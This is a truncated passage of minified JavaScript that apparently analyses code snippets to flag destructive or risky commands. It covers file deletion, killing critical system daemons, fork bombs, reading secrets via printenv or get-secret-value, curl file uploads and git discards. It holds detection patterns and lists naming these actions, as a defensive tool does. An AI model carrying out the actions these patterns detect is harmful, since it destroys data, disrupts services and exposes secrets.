i)),n=X(t,"skips");return e.some(([o,i=""])=>{if(!r(i))return/^(?:fnmatch|grep|select|filter)\b/.test(o)&&!X(o,"negative-tests");let a=i.split(/\band\b|&&/).filter(
c=>!X(c,"age-tests")).filter(c=>X(c.replace(/=>|->/g,""),"name-tests")||!X(c,"kind-tests")),l=/^(?:unless|reject)/.exec(o)?.[0]??"";return a.some(c=>X(`${l} ${c}`,
"negative-tests")===n)})}function of(t){let e=lf(t),s=[...t.matchAll(nr.test_clause)].flatMap(([r])=>[...[...r.matchAll(nr.tested_name)].flatMap(([,n,o])=>e.has(
n)?[o]:[]),...[...r.matchAll(nr.tested_ending)].flatMap(([,n,o])=>(n??o).split("|").map(i=>`*.${i.replaceAll("\\","")}`))]);return w.glob(w.text(...new Set(s),"\
\uFFFC"))}var af=t=>[...t.matchAll(nr.test_clause)].flatMap(([e])=>{let s=e.split(/\band\b|&&/).filter(n=>!X(n,"negative-tests"));return(X(e,"process-tests")?[...s.
join(" ").matchAll(nr.process_name)]:[]).map(([,n])=>n)}),Pl=t=>t.match(/\w+/g)??[];function lf(t){let e=[...t.matchAll(nr.loop_variable)],s=new Set(e.flatMap(r=>Pl(
r.slice(1).join(" "))));for(let[,r,n]of t.matchAll(/(\w+)\s*=(?![=>])([^\n;]{1,200})/g))!X(n,"age-tests")&&Pl(n).some(o=>s.has(o))&&s.add(r);return s}var{codeWords:Yo,forms:Il}=S,wx=4e4,cf=512,Xo=class{constructor(e,s,r=""){this.source=e;this.context=s;this.mayHideInput=rp(r,this.input,e),this.chosen=nf(r)?of(
r):void 0,this.processNames=af(r),this.signs={has:Se(n=>X(r,n))}}source;context;invocations=[];options=new Map;imitations=new Map;postponed=[];isRepeating=!1;listeners=new Map;modules=new Set;openedDatabases=[];temporaryTables=new Set;problem;folder;remainingSteps=wx;mayHideInput;chosen;processNames;signs;imitates(e){
return this.imitations.has(e)||this.signs.has(`stubbed-${e}`)}get isMocked(){return this.signs.has("imitation")&&!this.signs.has("database")}get isInMemory(){let e=(...r)=>r.
some(n=>this.signs.has(n));return this.openedDatabases.length>0&&this.openedDatabases.every(Boolean)&&!e("driver","attaches","own-connection","database-address")?
!0:e("in-memory")&&!e("database","driver","attaches","several-connections")}isLibrary(e){let s=[...this.modules].find(r=>e===r||e.startsWith(`${r}.`));return s!==
void 0&&!s.startsWith(".")&&!Yo.standard.has(s.split(/[./]/)[0])}get choosesProcesses(){return this.chosen!==void 0&&this.signs.has("names-processes")&&!this.signs.
has("by-user")}get isEmulated(){let s=Object.entries(this.input.environment).filter(([o])=>o.endsWith("_EMULATOR_HOST")).some(([,{text:o}])=>/^(?:localhost|127\.\d+\.\d+\.\d+):\d+$/.
test(o)),r=[...this.modules].filter(o=>this.isLibrary(o));return new Set(r.map(o=>o.replace("@","").split(/[/.]/)[0])).size===1&&(s||this.signs.has("emulated"))}enter(e){
this.folder=/^[\w./~-]/.test(e)&&!this.signs.has("own-folder")?e:void 0}get input(){return this.context.input??Co}recordPrint(e,s=" ",r=`
`){for(let{value:o}of v.parts(e)){let i=o.kind==="content"?o:G.secretContent(o);i&&this.recordSecrets(i)}if(!this.context.onPrint)return;let n=e.map(o=>v.flat([
o]).flatMap(v.texts).map(ql).map(a=>this.markUnread(a)).join(`
`));this.context.onPrint(n.join(s)+r)}recordSecrets(e){for(let s of e.from)s.program==="printenv"&&s.args.length===0&&this.signs.has("secret-names")&&e.variable!==
void 0?this.addInvocation("printenv",["SECRET_KEY"]):(e.variable!==void 0||s.args[1]?.text==="get-secret-value")&&this.add(s)}markUnread(e){return this.mayHideInput&&
e==="\uFFFC"?"\uFFFC\uFFFB":e}step(e=1){return this.remainingSteps-=e,this.remainingSteps<0&&this.fail("too-much","the code takes too many steps to read"),this.
problem===void 0}fail(e,s){this.problem??={kind:e,detail:s}}addInvocation(e,s,r={}){let o=Yo.deleting_programs.has(e)&&this.chosen===void 0?G.content(s.filter(d=>typeof d==
"object"))?.from:void 0,a=o?.length===1&&o[0].program==="find"?{wrappers:["xargs"],input:{kind:"pipe",from:o}}:{},l=this.createInvocation(e,s,{...a,...r}),[c]=l.
args;return e==="sql"&&c?.text.endsWith("-some")&&this.signs.has("production")&&(c.text=c.text.replace("some","production")),this.mayHideInput&&Yo.destructive_programs.
has(e)&&(l.args=l.args.map(d=>({...d,text:this.markUnread(d.text)}))),this.add(l),l}createInvocation(e,s,r={}){let n=s.flatMap(i=>Qo(i,Yo.deleting_programs.has(
e))),o=e==="sql"?"sql":this.source;return{...Et(e,n),language:o,...r}}readFile(e=I){if(e.kind==="content"||e.kind==="made")return e;let s=v.texts(e),r=s.every(n=>X(
n,"stdin-names"))?Ys(this.input):void 0;return r||(this.addInvocation("cat",[e],{redirects:Rl("read",Qo(e,!1))}),w.content([],s))}recordWrite(e=I,s,r=!1){let n=s&&
G.content([s]);if(!n&&v.texts(e).every(u=>Il.below_new_folder.test(u)))return;let o=this.signs.has("encrypts")||(s===void 0?!this.signs.has("writes"):O.known(s)&&
!n),a=(s===void 0||v.firstText(s)==="")&&v.texts(e).every(u=>/\.(?:sqlite3?|db)$/.test(u));if(o&&!r&&(kx(e)||a)){this.addInvocation("truncate",["-s","0",e]);return}
this.addInvocation("printf",["%s",s??I],{redirects:Rl(r?"append":"write",Qo(e,!1)),...this.createInput(n)});let[l,c]=[v.firstText(e),v.firstText(s)];(!l.includes(
"\uFFFC")||l.startsWith("/tmp/"))&&!c.includes("\uFFFC")&&this.context.onWrite?.(l,c)}createInput(e){if(!e)return{};let s=Rl("read",$e(e.files));return{input:{kind:"\
pipe",from:[...s.length>0?[this.createInvocation("cat",e.files,{redirects:s})]:[],...e.from]}}}runShellLine(e){let s=e&&G.content([e]),r=e?.kind==="content"&&e.
of?.every(n=>Il.known_command.test(n));return s&&!r?w.content([this.addInvocation("sh",[],this.createInput(s))]):w.merged(v.texts(e).map(n=>this.readCommand(this.
markUnread(df(n)))))}runProgram(e){return this.readCommand(df(e.flatMap(v.texts).map(vx).join(" ")))}readCommand(e){if(!this.step(8))return w.content([]);let{invocations:s,
problem:r,output:n}=this.context.readCommand(e,this.folder);this.problem??=r;for(let o of s)this.add(o);return{kind:"content",files:[],from:s,of:n?[n.trimEnd()]:
void 0}}add(e){this.invocations.length>=cf?this.fail("too-much",`the code does more than ${cf} things`):this.invocations.push(e)}},kx=t=>v.texts(t).some(e=>/[*\u{FFF9}][^/]*$/u.
test(e)),ql=t=>t.replaceAll(ns,"\uFFFC"),df=t=>Il.deletes.test(t)?t.replaceAll(ns,"*").replace(/'([^'\s]*\*)'/g,"$1"):ql(t);function Qo(t,e){if(t===void 0)return[];
if(typeof t=="string")return[R(t)];if(t.kind==="content"&&t.files.length>0)return $e(t.files.map(r=>`@${r}`));if(t.kind==="list")return t.items.flatMap(r=>Qo(r,
e));if(t.kind==="map")return e?[]:$e([...t.entries.keys()]);let s=O.glob(t)||t.kind==="content"&&v.firstText(t).includes("*");return v.texts(t).map(r=>e&&r.includes(
ns)?R(r.replaceAll(ns,"*"),!0):R(ql(r),s))}var Rl=(t,e)=>e.map(s=>({kind:t,path:s})),vx=t=>/^[\w@%+=:,./-]+$/.test(t)?t:`'${t.replaceAll("'","'\\''")}'`;var Ol=65536,xx={evaluate:ut,call:Pt,interpret:Qp};function Jo(t,e,s){let r=new Xo(t,s,e.slice(0,Ol)),n=t==="php"?e.replace(/<\?(?:php\b|=)/g,";").replace(/(?<=\w)\\(?=[A-Z])/g,
"::"):e;return e.length>Ol?r.fail("too-long",`the ${t} code is longer than ${Ol} characters`):t==="sql"?Js(e,r):t==="awk"?ef(e,r):$x(vp(t),n,r),{invocations:r.invocations,
...we({problem:r.problem||void 0})}}function $x(t,e,s){let r=Pr(e,t.lexer);if(r.length>=qo){s.fail("too-much",`the code has more than ${qo} words`);return}(s.source!==
"other"||/\bfork\s*\(/.test(e))&&rf(r)&&s.addInvocation("fork-bomb",[]);let o=new Er;np(t.inputs,o,s.input);let i=new Oo(t,s,o,r,xx),a=i.interpret();s.input.printsLast&&
s.recordPrint([a]),i.body=void 0;let l=r.flatMap(c=>c.kind==="name"?[c.text]:[]);for(let c of i.definitions){if(s.problem!==void 0)break;s.imitations=new Map;let{
name:d,parameters:u,from:p,tokens:f}=c,m=d===void 0||l.indexOf(d)!==l.lastIndexOf(d)||u[0]?.name==="self",h=i.definitions.some(x=>x.called&&x.from===p&&x.tokens===
f),g={kind:"function",definition:c},y=!h&&m?i.call(g):void 0;d==="__reduce__"&&y?.kind==="list"&&y.items[1]&&i.call(y.items[0],...v.elements(y.items[1]))}}var wn="/work";var dO=new Set("bin boot dev etc lib lib32 lib64 libx32 proc run sbin sys tmp usr world".split(" ").map(t=>`/${t}`));var _x=65536;function pf(t){let e=t.trim();return e.length>_x||!/^[[{][\s\S]*[\]}]$/.test(e)?!1:uf(e)||e.split(`
`).every(s=>s.trim()===""||uf(s))}var uf=t=>typeof(Nl(t)??void 0)=="object";function Nl(t){try{return JSON.parse(t)}catch{return}}function ff(t){let e=t.slice(0,
2e3);return Object.entries(S.textForms).find(([,s])=>s.test(e))?.[0]}function $s(t,e=""){try{return new RegExp(t,e)}catch{return}}var Ll=JSON.parse('{"names":["systemd*","init","sshd","ssh","dockerd","docker","containerd","kubelet","cron","crond","rsyslogd","auditd","NetworkManager","dbus*\
","Xorg","gnome-shell","explorer.exe","Finder","loginwindow","launchd","WindowServer","mysqld","mariadbd","postgres*","nginx","apache2","httpd","mongod","redis-\
server","udevd","login","firefox","chrome","google-chrome","supervisord","php-fpm","haproxy","named","ntpd","polkitd"],"ports":{"22":"sshd","53":"named","2375":\
"dockerd","2376":"dockerd","10250":"kubelet","ssh":"sshd","domain":"named"}}');var{programWords:yf,forms:as}=S,Sx=Ll.names.map(t=>t.replace("*","")),wf=new Map(Object.entries(Ll.ports)),Cx=60,Ex=4;function kf(t){if(t.length>Cx||!/\w/.test(
t)||/[\s/]|\\\d/.test(t))return[];let e=t.replace(/\)(?:[*+?]|\{\d*,?\d*\})+/g,")");if((e.match(/[*+?{]/g)??[]).length>Ex)return[];let s=$s(e);return Sx.filter(
r=>{let n=s?.exec(r);if(!n)return!1;let o=n[0].length*2;return o>r.length||n.index===0&&o===r.length})}var Zo="*";function vf(t,e){let s=t.filter(i=>i.program===
"kill"&&ue(i).includes("\uFFFC")&&!xf(i)),n=s.some(({input:i})=>i===void 0||i.kind==="text")?e:e.filter(({captured:i})=>i),o=[...t.flatMap(Ax),...s.some(i=>Ox(i,
e))?[Zo]:[],...s.flatMap(({input:i})=>i?.kind==="file"?ei(i.path.text):[]),...s.flatMap(i=>mf(de(i))),...s.length>0?mf(n):[]];return $e([...new Set(o)])}function xf({
program:t,args:e}){let{flags:s,options:r}=_e(t,e),o=[...r.filter(({flag:i})=>/^(-s|--signal)$/.test(i)).map(({value:i})=>i.text),...s.filter(i=>/^-(\d+|[A-Z]{3,})$/.
test(i)).map(i=>i.slice(1))];return o.length>0&&o.every(i=>i==="0")}function Ax({program:t,path:e,args:s}){if(e.startsWith("/etc/init.d/")&&s[0]?.text==="stop")
return[t];if(/^(nginx|httpd|apachectl|apache2ctl)$/.test(t))return s.some(({text:n})=>/^(stop|quit|graceful-stop)$/.test(n))?[t.replace(/ctl$/,"2")]:[];if(!yf.killers.
has(t))return[];let r=_e(t,s);return t==="fuser"?Rx(r):t==="start-stop-daemon"?Px(r):xf({program:t,args:s})?[]:$f(t,r)}function $f(t,{flags:e,options:s,operands:r}){
let n=t!=="killall"&&pe(e,"-f"),o=/^p(kill|grep)$/.test(t)&&!pe(e,"-x","--exact");return[...r.flatMap(({text:i})=>[...Wl(i,n),...o?/^\w$/.test(i)?[Zo]:kf(i):[]]),
...s.flatMap(({value:i})=>ei(i.text))]}var Tx=200;function Wl(t,e){return t.slice(0,Tx).split("|").flatMap(r=>{let n=r.replace(/\[(.)\]/g,"$1").replace(/\\[b<>]|[\^$()\\]|^\.\*|\.\*$/g,
""),[o="",...i]=n.trim().split(/\s+/);if(e&&i.length>0&&!o.endsWith(":")&&!as.daemon_path.test(o))return[];let a=o.replace(/:$/,"").replace(/^.*\//,"");return a===
""?[]:[a.replace(/\.exe$/i,"")]})}var ei=t=>/^\/(?:var\/)?run\/(?:.*\/)?([\w.-]+?)\.pid$/.exec(t)?.slice(1)??[];function Px({flags:t,options:e}){return pe(t,"-K",
"--stop")?e.flatMap(({flag:s,value:r})=>/^(-n|--name|-x|--exec)$/.test(s)?Wl(r.text,!1):ei(r.text)):[]}function Rx({flags:t,operands:e}){return pe(t,"-k","--kil\
l")?pe(t,"-m","-M","-c","--mount")?[Zo]:e.flatMap(({text:s})=>/^\/+[\w.-]*\/*$|^~\/*$/.test(s)?[Zo]:wf.get(s.replace(/\/(tcp|udp|sctp)$/,""))??[]):[]}function mf(t){
let e=t.some(({program:s})=>s==="ps");return t.flatMap(s=>Ix(s,e))}function Ix({program:t,args:e,redirects:s,filter:r},n){switch(t){case"pgrep":case"pidof":return $f(
t,_e(t,e));case"cat":case"head":case":":return[...e,...s.map(({path:o})=>o)].flatMap(({text:o})=>ei(o));case"ps":return gf(e,"-C");case"lsof":return[...gf(e,"-c"),
...e.flatMap(({text:o})=>wf.get(as.lsof_port.exec(o)?.[1]??"")??[])];case"systemctl":{let[o,...i]=_e(t,e).operands.map(({text:a})=>a);return i.flatMap(a=>/^(.*)\.service$/.
exec(a)?.[1]??(o==="show"?a:[]))}default:return n?/^[gmn]?awk$/.test(t)?Cf(r?.code??"").flatMap(hf):/^(e|f)?grep$|^rg$/.test(t)?Sf(e).flatMap(hf):[]:[]}}var hf=t=>[
...Wl(t,!0),...kf(t)];function gf(t,e){return t.flatMap(({text:s},r)=>s===e?t.slice(r+1,r+2).flatMap(n=>n.text.split(",")):s.startsWith(e)?s.slice(e.length).split(
","):[])}var Ml=2e3;function _f({program:t,args:e,filter:s}){let r=e.map(n=>n.text).join(" ");if(r.length>Ml)return!1;if(/^(([efg]|gg)?(grep|rg)|ag|ack|ugrep)$/.
test(t)){let n=Sf(e);return n.length>0&&n.every(Dl)}if(/^g?sed$/.test(t)){let[,n,o,,i]=as.matching_lines.exec(r)??[];return as.one_line.test(r)||Dl(n??o??i??"")}
return/^[gmn]?awk$/.test(t)?qx(s?.code??""):t==="head"||t==="tail"?as.few_lines.test(r):t==="fzf"}function Sf(t){let{flags:e,options:s,operands:r}=_e("grep",t);
if(pe(e,"-v","--invert-match"))return[];let n=s.filter(({flag:o})=>o==="-e"||o==="--regexp").map(({value:o})=>o);return(n.length>0?n:r.slice(0,1)).map(({text:o})=>o)}
function Dl(t){return/\)(?:[*?]|\{0|\{,)/.test(t)?!1:t.split(/\\?\|/).every(e=>{let s=e.replace(/\[\[:\w+:\]\]|\[([^\]^])\]/g,"$1").replace(/\[[^\]]*\]|\\[a-zA-Z<>]/g,
" ").replace(/\\?.(?:[*?]|\\\?|\\?\{(?:0|,)[^}]*\})/g," ").replace(/\\?[(){}^$+]|\\/g,"");return s.includes("\uFFFC")||/\w\w/.test(s)&&!as.word_everywhere.test(
s.trim())})}function qx(t){return t.length>Ml||/\|\||\}\s*(?:\{|1|;)|;\s*1\b|^\s*\{(?!\s*if\b)/.test(t.replace(/\bBEGIN\s*\{[^}]*\}/g,""))?!1:Cf(t).some(Dl)?!0:
as.awk_comparison.test(t)}function Cf(t){return t.length>Ml?[]:[...t.matchAll(/(!~?\s*)?(?:\/((?:[^/\\\n]|\\.)+)\/|~\s*"([^"\n]+)")/g)].flatMap(([,s,r,n])=>s===
void 0?r??n??[]:[])}function Ox(t,e){let s=de(t);return s.some(Af)?Ef(s).length>0:s.some(r=>jl(r).length>0&&_f(r))?!1:Nx(e)}function Nx(t){let e=t.filter(n=>yf.
keepers.has(n.program)||bf(n)),s=new Set(e.flatMap(de)),r=n=>n.captured||n.language!=="shell"||bf(n)||s.has(n);return Ef(t).some(r)}var bf=({redirects:t})=>t.some(
({kind:e})=>e!=="read");function Ef(t){let e=t.filter(Af),s=t.filter(n=>jl(n).length>0&&_f(n)),r=new Set(s.flatMap(jl));return e.filter(n=>!r.has(n))}var jl=t=>t.
filter?.from??de(t),Af=({program:t,args:e})=>t==="ps"&&(e.some(({text:s})=>as.ps_all.test(s))||!e.some(({text:s})=>as.ps_choice.test(s)));gt();function W(t,{short:e="",long:s=[],optional:r="",permuted:n}){let o=[],i=[],a=[...t],l=(u,p)=>o.push({name:u,...we({value:p})}),c=({text:u,glob:p})=>{let[,f="",
m]=/^--([^=]*)(?:=([\s\S]*))?$/.exec(u),h=$o(f,s);m===void 0?l(h,s.includes(h)?a.shift():void 0):l(h,{text:m,glob:p})},d=({text:u,glob:p})=>{for(let f=1;f<u.length;f+=
1){let m=u[f],h=u.slice(f+1),g=r.includes(m)&&(h!==""||a[0]?.text.startsWith("-")!==!1);if(!e.includes(m)||g)l(m);else{l(m,h===""?a.shift():{text:h,glob:p});break}}};
for(;a.length>0&&a[0].text!=="--";){let{text:u}=a[0],p=u.length>1&&u.startsWith("-");if(!p&&!n)break;let f=a.shift();p?u.startsWith("--")?c(f):u.length>2&&s.includes(
u.slice(1))?l(u.slice(1),a.shift()):d(f):i.push(f)}return i.push(...a.slice(a[0]?.text==="--"?1:0)),{options:o,operands:i}}var K=(t,...e)=>t.some(({name:s})=>e.
includes(s)),M=(t,...e)=>t.flatMap(({name:s,value:r})=>e.includes(s)&&r?[r]:[]);function ti(t,e){let s=({text:n},o)=>n===";"||n==="+"&&/\{\}|\u{FFFC}/u.test(t[o-
1].text),r=t.findIndex((n,o)=>o>e&&s(n,o));return r===-1?t.length:r}var{forms:Rt}=S,Lx=200;function Fl(t,e,s){if(e.program==="find")return si(e.args);if(t.length===0||s.length>Lx)return t;let n=s.slice(0,Math.max(0,s.indexOf(e))).
filter(({program:o})=>o==="mv").flatMap(({args:o})=>{let i=o.filter(({text:l})=>!l.startsWith("-")),a=i.at(-1);return a&&i.length>1&&t.some(({text:l})=>Tf(a.text,
l)||Tf(l,a.text))?i.slice(0,-1):[]});return[...t,...n]}var Tf=(t,e)=>`${t}/`.startsWith(`${e.replace(/\/\*?$/,"")}/`),Dx=new Set(S.getopt.find.long.map(t=>`-${t}`)),
Pf=()=>({names:[],empty:!1,byProperty:!1,deletes:!1,acts:!1});function Vl(t){let e=[],s=[Pf()],r=!1,n=0,o=!1;for(let i=0;i<t.length;i+=1){let{text:a}=t[i],l=s.at(
-1);l.acts||=Rt.find_action.test(a);let c=()=>{l.deletes=!0,n>0&&o&&(l.names=["*"])};a==="("?n+=1:a===")"?n=Math.max(0,n-1):/^(-o|-or|,)$/.test(a)?(o=!0,n===0&&
s.push(Pf())):Rt.find_command.test(a)?(Rt.deleting_program.test(t[i+1]?.text??"")&&c(),i=ti(t,i)):a==="-delete"?c():a==="!"||a==="-not"?r=!0:Rt.find_by_name.test(
a)?(r||l.names.push(t[i+1]?.text??"*"),r=!1,i+=1):a==="-fprintf"?i+=2:Dx.has(a)||/^-newer[aBcm][aBcmt]$/.test(a)?(l.byProperty||=Rt.find_by_property.test(a),r=!1,
i+=1):a==="-empty"?l.empty=!0:!a.startsWith("-")&&s.every(({names:d})=>d.length===0)&&e.push(a.replace(/\/$/,""))}return{starts:e.length>0?e:["."],branches:s}}var kn=Se(
t=>{let{starts:e,branches:s}=Vl(t),r=s.filter(({deletes:a})=>a),n=s.some(({acts:a})=>a)?s.filter(({acts:a})=>a):s,o=n.flatMap(a=>a.names),i={...n.at(-1),names:o,
empty:n.some(({empty:a})=>a)};return e.flatMap(a=>(r.length>0?r:[i]).flatMap(l=>jx(l,a)).map(l=>R(`${a}/${l.replace(/^\.?\/?\*\/|^\.\//,"")}`,!0)))},new WeakMap);
function jx({names:t,empty:e,byProperty:s},r){return t.length>0?t:e?["tmp"]:[s&&Rt.temp_root.test(r)?"\uFFFC":"*"]}var si=t=>Vl(t).branches.some(({deletes:e})=>e)?
kn(t):[];function Wx({args:t}){let{options:e,operands:s}=W(t,{short:"e",long:["extension"],permuted:!0}),[r]=M(e,"e","extension"),n=r?`*.${r.text}`:s[0]?.text??
"*",[,o]=/^\^?\(([\w.\\|]+)\)\$?$/.exec(n)??[];return(o?.replaceAll("\\","").split("|")??[/^[.^$]*$/.test(n)?"*":n]).map(a=>R(`${s[1]?.text??"."}/${a}`,!0))}function or(t,e){
let s=t.wrappers.findLast(a=>Rt.supplying_wrapper.test(a)),r=s&&Mx(s,t,e);if(!r)return Rf(t,e);let n=Fx(t,r)??Vx(r);if(n.length===0)return t.args;let o=s==="fin\
d"?Vl(r.args).starts.map(a=>`${a}/`):[""],i=({text:a})=>o.some(l=>a.includes(l+"\uFFFC"));return t.args.some(i)?t.args.flatMap(a=>{if(!i(a)||a.text.startsWith("\
-"))return[a];let[l=""]=/^[^\u{FFFC}]*[@=]/u.exec(a.text)??[];return n.map(({text:c,glob:d})=>({text:l+c,glob:d}))}):Rf(t,e)}function Rf(t,e){let{args:s,language:r}=t,
n=r==="shell"?de(t):[],o=e.filter(c=>c.program==="ls"&&(c.captured||n.includes(c))),i=Math.min(...o.map(({wrappers:c})=>c.length)),a=e.filter(c=>Rt.choosing_filter.
test(c.program)&&c.wrappers.length>=i);if(o.length===0||a.length>0)return s;let l=o.map(c=>c.args.filter(({text:d})=>!d.startsWith("-")).map(({text:d})=>d));return s.
map(c=>{let[,d]=new RegExp(`^(?:(.*)/)?${"\uFFFC"}$`,"s").exec(c.text)??[],u=([f,...m])=>m.length===0&&f?.replace(/\/$/,"")===d;return(/^[/~]/.test(d??t.folder?.
text??"")||s.some(({text:f})=>/^-\w*[rR]/.test(f)))&&c.text.endsWith("\uFFFC")&&l.some(u)?R(d===void 0?"./*":`${d}/*`,!0):c})}function Mx(t,e,s){if(t!=="find"&&
t!=="fd")return de(e).find(({program:n})=>Rt.search_program.test(n));let r=({program:n})=>t==="find"?n==="find":Rt.fd.test(n);return s.slice(0,s.indexOf(e)).findLast(
r)??s.find(r)}function Fx(t,e){let s=ue(de(t).at(-1)??e),[,r]=/^[ef]?grep (?:-E )?\\\.\(?([\w|]+)\)?\$$/.exec(s)??[];return e.args.every(({text:o})=>/^(?:-|ls-files$|\.$|[fd]$)/.
test(o))?r?.split("|").map(o=>R(`./*.${o}`,!0)):void 0}function Vx(t){if(t.program==="find")return kn(t.args);if(Rt.fd.test(t.program))return Wx(t);let e=t.args.
filter(({text:n})=>!n.startsWith("-"));if(t.program==="ls")return(e.length>0?e:[R(".")]).map(({text:n,glob:o})=>R(o?n:`${n.replace(/\/$/,"")}/*`,!0));let[s,...r]=e;
return t.program!=="git"||s?.text!=="ls-files"?[]:(r.length>0?r:[R("*")]).map(({text:n})=>R(`./${n}`,!0))}function vn(t,{flags:e,options:s,operands:r}){let n={reads:[],
writes:[],deletes:[],moves:[],changes:[]},o=`${t} ${r[0]?.text??""}`,i=S.roles.has(o),a=S.roles.get(i?o:t);if(!a)return n;let l=pe(e,...a.unless??[]),c=r.slice(
(i?1:0)+(l?0:a.skip??0)),d=a.with?.find(f=>pe(e,...f.flags))?.each??a.each,u=s.some(({flag:f})=>a.options?.[f]==="writes"),p=a.last!==void 0&&c.length>1&&!u&&d!==
"none";c.forEach((f,m)=>{let h=p&&m===c.length-1?a.last:d,g=Object.entries(a.keyed??{}).find(([y])=>f.text.startsWith(y));g?n[g[1]].push({text:f.text.slice(g[0].
length),glob:f.glob}):h&&h!=="none"&&n[h].push(f)});for(let{flag:f,value:m}of s){let h=a.options?.[f];h&&n[h].push(m)}if(t==="git"&&(n.reads=n.reads.map(Hx)),(t===
"curl"||t==="http"||t==="https")&&n.reads.push(...Bx(s,r)),t==="tar"&&!Ux(e,r)&&(n.writes=[]),t==="scp"||t==="rsync")for(let f of["reads","writes"])n[f]=n[f].filter(
({text:m})=>!ri(m));return n}var Ux=(t,e)=>{let s=/^[a-zA-Z]*$/.exec(e[0]?.text??"")?.[0]??"";return/[xctru]/.test(s)?s.includes("x"):!pe(t,"-c","-t","-r","-u",
"--create","--list","--append","--update")},ri=t=>/^([\w.-]+@)?[\w.\-[\]:]{2,}:|^(rsync|s3|gs|ftp|sftp|https?):\/\//.test(t)&&!t.startsWith("/"),Hx=t=>/^[\w./~^@{}-]*:[^:]/.
test(t.text)?{...t,text:t.text.slice(t.text.indexOf(":")+1)}:t;function Bx(t,e){let s=t.flatMap(({flag:n,value:o})=>{let i=/^(-d|-F|-b|--data.*|--json|--form|--url-query|-H|--header)$/.
test(n),a=/(?:^@|=@|=<)([^;,]*)/.exec(o.text)?.[1];return i&&a!==void 0?[{...o,text:a}]:[]}),r=e.flatMap(n=>{if(n.text.startsWith("file://"))return[n];let[,o]=/^(?:[\w.-]*:?[@=])?@(.*)/s.
exec(n.text)??[];return o===void 0?[]:[{...n,text:o}]});return[...s,...r]}var{forms:Wt,pathWords:If}=S,ni=R(".");function zx(t,e){let[s]=t.args;if(s?.text!=="checkout"&&s?.text!=="restore")return[];let[r,...n]=de(t),o=t.args.every(({text:m})=>Wt.
restoring_word.test(m)),i=r&&n.length===0&&Wt.list_of_deleted.test(ue(r));if(o&&i&&t.wrappers.includes("xargs"))return[];let a=or(t,e),{flags:l,options:c,operands:d}=_e(
"git",a);if(pe(l,"-p","--patch")&&t.input===void 0)return[];let u=s.text==="restore";if(u&&pe(l,"--staged","-S")&&!pe(l,"--worktree","-W"))return[];if(c.some(({
flag:m})=>m==="--pathspec-from-file"))return[ni];let p=d.slice(1);if(!u&&pe(l,"-b","-B","-t","--track","--orphan"))return[];let f=pe(l,"--theirs","--ours");return(u?
p:Gx(p,a)).flatMap(m=>f&&!Ul(m)&&!/^:|\u{FFFC}/u.test(m.text)?[]:m.text==="\uFFFC"?Qx(e)?[ni]:[]:[Kx(m)])}function Gx(t,e){let s=e.findIndex(({text:a})=>a==="--");
if(s!==-1)return e.slice(s+1);let[r,...n]=t,[,o=""]=/\.(\w+)$/.exec(r?.text??"")??[];return n.length===0&&If.file_endings.has(o.toLowerCase())||r?.glob||/^\u{FFFC}$|^\.{0,2}\/|^\.{1,2}$|\/$|[*?[]|^:/u.
test(r?.text??"")?t:n}function Kx({text:t,glob:e}){if(/^:(\([^)]*exclude[^)]*\)|[!^])/.test(t))return ni;let s=t.replace(/^:(\([^)]*\)|\/|:)?/,"").replace(/\*\*.*$/s,
"");return s===""?ni:R(s,e)}function Ul({text:t,glob:e}){if(e||/\/$|[*?[]/.test(t))return!0;let[,s="",r=t]=/^(?:(.*)\/)?([^/]*)$/.exec(t)??[];return/^[a-z][a-z0-9_-]*$/.
test(r)&&!If.files.has(r)&&!Wt.file_folder.test(s)||/^\.{0,2}$/.test(r)}function Yx({program:t,args:e}){if(t!=="git"||e.some(({text:n})=>n==="--"))return!1;let[
s="",...r]=e.map(({text:n})=>n);return/^(ls-files|status)$/.test(s)?r.every(n=>n.startsWith("-")):s==="diff"&&r.some(n=>n==="--name-only"||n==="--name-status")}
var Qx=Se(t=>{let e=s=>t.some(r=>de(r).includes(s));return t.some(s=>Yx(s)&&(s.captured||s.redirects.length>0||e(s)))},new WeakMap);function qf(t,e){let s=(r,n,o)=>n.
length>0?[Et(r,n,[],o)]:[];return[...s("end-process",vf(t,e)),...t.flatMap(r=>{let{program:n,folder:o}=r;if(Xx(r,e))return s("compose-elsewhere",[R("down")],o);
if(n==="rsync")return s("sync-away",Jx(r),o);if(n!=="git")return[];let i=zx(r,e),a=i.filter(c=>!Ul(c)),l=i.filter(Ul);return[...s("git-discard",l,o),...s("git-d\
iscard-file",a,o)]})]}function Xx(t,e){let{program:s,args:r,folder:n,environment:o,wrappers:i}=t;if(!Wt.compose_program.test(s))return!1;let{flags:a,operands:l}=_e(
s,r),[c,d]=l.map(({text:h})=>h),u=c==="compose"?d:c;if(!/^(?:down|rm)$/.test(u??"")||!pe(a,"-v","--volumes","--rmi"))return!1;let p=ue(t).replace(Wt.unique_project,
""),f=Object.entries(o).some(([h,{text:g}])=>Wt.compose_variable.test(h)&&!Wt.unique_setting.test(`${h}=${g}`)),m=/^[/~]|^\.\./.test(n?.text??"");return f||e.some(
h=>Wt.context_change.test(ue(h)))||!i.every(h=>Wt.timing_wrapper.test(h))||Wt.compose_place.test(p)||m&&!`${n?.text}/`.startsWith(`${wn}/`)}function Jx({args:t}){
let{flags:e,operands:s}=_e("rsync",t);return e.some(n=>/^--del(?!ay|ete-m)/.test(n))&&s.length>1?s.slice(-1).filter(({text:n})=>ri(n)):[]}var Nf=require("node:path");var Zx=1e3,e0=1e4,Of=1024*1024,t0=20,Or=class{files=new Map;forgotten=new Set;characters=0;version=0;write(e,s,r,n=[]){let o=oi(e,r);if(o===void 0)return;this.version+=
1;let i=o.includes("\uFFFC")?this.files.get(o)?.text??"":"";this.forget(o),this.forgotten.delete(o);let a=i.length+s.length>Of?"\uFFFC\uFFFB":i+s;this.files.set(
o,{text:a,from:n}),this.characters+=a.length;for(let l of this.files.keys()){if(this.files.size<=Zx&&this.characters<=Of)break;this.forget(l),this.forgotten.add(
l),this.forgotten.size>e0&&this.forgotten.delete(this.forgotten.values().next().value)}}append(e,s,r,n=[]){let o=this.written(e,r),i=e.includes("\uFFFC")?s:(o?.
text??"")+s;this.write(e,i,r,[...o?.from??[],...n].slice(-t0))}written(e,s){let r=oi(e,s);if(r!==void 0)return this.files.get(r)??(this.forgotten.has(r)?{text:"\
\uFFFC\uFFFB",from:[]}:void 0)}forget(e){this.characters-=this.files.get(e)?.text.length??0,this.files.delete(e)}};function oi(t,e=""){let s=/^[/~]/.test(t)||e===
